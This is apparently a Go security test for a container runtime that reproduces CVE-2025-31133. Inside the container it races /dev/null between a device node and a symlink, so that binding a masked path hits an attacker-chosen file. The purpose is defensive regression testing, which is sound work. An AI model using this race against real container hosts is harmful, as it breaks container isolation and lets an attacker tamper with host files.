package attack

import (
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// What hides and protects paths, led elsewhere.

func init() { add(attacksOnMasks) }

var attacksOnMasks = []attack{
	{
		name: "CVE-2025-31133",
		what: "the container's /dev/null becomes a link again and again: a masked file is bound to what that leads to",
		try: func(s *stage) string {
			s.Config.unmount("/dev")
			must(s.t, os.Mkdir(s.dir+"/volume", 0o755))
			s.Config.mount("/dev", "bind", s.dir+"/volume", "bind")
			s.Config.at("linux")["maskedPaths"] = []string{"/secret"}
			s.file("secret", "hush", 0o644)
			s.file("target", "attacked", 0o644)
			must(s.t, os.Symlink("/target", s.dir+"/volume/null.link"))
			must(s.t, unix.Mknod(s.dir+"/volume/null", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))))
			s.background(swapper, s.dir+"/volume/null", s.dir+"/volume/null.link")
			return s.race(func() string {
				if out, _ := s.run("cat", "/secret"); strings.Contains(out, "attacked") ||
					strings.Contains(out, "hush") {
					return "the mask is a file of the image"
				}
				return s.harmed()
			})
		},
		without: []way{{edit: "text 1 $ROOTFS/dev/null open the host's /dev/null\nresolve 0 open the host's " +
			"/dev/null\n"}},
	},
}
